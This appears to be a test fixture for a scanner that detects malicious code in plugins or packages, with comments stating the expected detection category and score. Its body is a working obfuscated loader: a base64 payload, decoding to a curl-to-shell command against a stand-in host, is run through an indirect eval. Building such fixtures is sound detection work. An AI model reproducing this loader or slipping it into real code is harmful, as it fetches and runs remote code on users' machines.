// expect: category=code-generation min=80 context=plugin,package
// why: `(a.eval || b.eval)(s)` reaches eval through whichever global exists; `s` is decoded.
const a = typeof window === 'object' ? window : {};
const b = typeof globalThis === 'object' ? globalThis : this;

const PAYLOAD =
  'cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2N1cmwgLXMgaHR0cHM6Ly9kbC5leGFtcGxlL3Muc2ggfCBzaCcp';

function unpack(s) {
  return typeof atob === 'function' ? atob(s) : Buffer.from(s, 'base64').toString();
}

(a.eval || b.eval)(unpack(PAYLOAD));
